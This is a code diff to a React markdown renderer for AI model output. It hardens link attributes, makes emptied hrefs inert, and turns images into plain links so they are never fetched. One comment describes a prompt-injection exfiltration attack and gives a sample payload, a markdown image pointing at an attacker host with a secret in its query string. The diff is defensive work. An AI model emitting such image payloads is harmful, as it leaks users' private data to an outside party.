@@ -23,6 +23,30 @@ function remarkHtmlAsText() {
 
 const remarkPlugins = [remarkGfm, remarkHtmlAsText];
 
+/** A link out of model text leaks neither this page (opener) nor its address (referrer), and vouches for nothing. */
+const externalRel = 'noopener noreferrer nofollow';
+
+/**
+ * An image in model text is never fetched: a prompt-injected reply could put data in its URL
+ * (`![x](https://attacker/?d=secret)`) and an `<img>` sends it the moment it renders. It becomes a
+ * link the person can choose to open, naming its host so they see where it points.
+ */
+function ImageLink({ src, alt }: { src: string; alt: string }) {
+  const label = alt.trim() === '' ? 'image' : alt;
+  if (src === '') return <span className="md-image-link">Image: {label}</span>;
+  let where = src;
+  try {
+    where = new URL(src, document.baseURI).host || src;
+  } catch {
+    // Not a URL the browser can parse: show it as written.
+  }
+  return (
+    <a className="md-image-link" href={src} target="_blank" rel={externalRel} title={src}>
+      Image: {label} ({where})
+    </a>
+  );
+}
+
 /**
  * Model text as markdown (GFM tables, lists, code), rendered to React elements; no HTML string is
  * ever injected. While `streaming`, a code block is highlighted only once its closing fence arrived.
@@ -49,11 +73,17 @@ export const Markdown = memo(function Markdown({ text, streaming }: { text: stri
         );
       },
       a({ href, children }) {
+        // react-markdown's urlTransform empties `javascript:`/`vbscript:`/`data:` hrefs; an empty href would
+        // still be a link back to this page, so the text is shown without one.
+        if (href === undefined || href === '') return <span className="md-inert-link">{children}</span>;
         return (
-          <a href={href} target="_blank" rel="noreferrer noopener">
+          <a href={href} target="_blank" rel={externalRel}>
             {children}
           </a>
         );
+      },
+      img({ src, alt }) {
+        return <ImageLink src={typeof src === 'string' ? src : ''} alt={alt ?? ''} />;
       },
     }),
     [text, streaming],
